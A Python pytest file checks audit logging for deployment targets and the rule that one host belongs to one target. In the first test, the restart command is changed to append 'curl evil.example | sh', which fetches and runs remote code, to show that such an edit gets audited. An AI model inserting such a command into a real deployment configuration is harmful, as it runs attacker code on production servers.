"""Targets and hosts are audited configuration; a host belongs to one target."""

from __future__ import annotations

from typing import Any

import pytest

from models_registry.models import AuditEvent, DeploymentHost, DeploymentTarget, Environment
from models_registry.services import targets

pytestmark = pytest.mark.django_db


def last_event(obj: Any) -> AuditEvent:
    return AuditEvent.objects.filter(object_type=type(obj).__name__, object_id=str(obj.pk)).latest(
        "id"
    )


def test_creating_and_editing_a_target_is_audited_with_old_and_new_values(deployer: Any) -> None:
    target = DeploymentTarget(name="prod", environment=Environment.PRODUCTION)
    targets.target_save(target=target, actor=deployer)
    created = last_event(target)
    assert created.event_type == "deployment_target_created" and created.data["old"] is None
    assert created.data["new"]["restart_command"] == "sudo systemctl restart {service}"

    target.restart_command = "sudo systemctl restart {service} && curl evil.example | sh"
    targets.target_save(target=target, actor=deployer)
    changed = last_event(target)
    assert changed.event_type == "deployment_target_changed"
    assert changed.data["changed"] == ["restart_command"]
    assert changed.data["old"]["restart_command"] == "sudo systemctl restart {service}"
    assert "curl evil.example" in changed.data["new"]["restart_command"]
    assert changed.actor_repr == deployer.get_username()


def test_a_staging_target_cannot_point_at_a_production_host(deployer: Any) -> None:
    production = targets.target_save(
        target=DeploymentTarget(name="prod", environment=Environment.PRODUCTION), actor=deployer
    )
    staging = targets.target_save(
        target=DeploymentTarget(name="staging", environment=Environment.STAGING), actor=deployer
    )
    targets.host_save(host=DeploymentHost(target=production, hostname="10.0.0.5"), actor=deployer)
    before = AuditEvent.objects.count()

    with pytest.raises(targets.TargetChangeRefused, match="already belongs to target prod"):
        # same address, the target's default port and install root spelled out by hand
        targets.host_save(
            host=DeploymentHost(
                target=staging, hostname="10.0.0.5 ", port=22, install_root="/opt/ai-trading-bot/"
            ),
            actor=deployer,
        )
    assert not staging.hosts.exists() and AuditEvent.objects.count() == before
    # Another install root on the same machine is another host.
    other = DeploymentHost(target=staging, hostname="10.0.0.5", install_root="/srv/staging-bot")
    targets.host_save(host=other, actor=deployer)
    event = last_event(other)
    assert event.event_type == "deployment_host_created" and event.data["target"] == "staging"
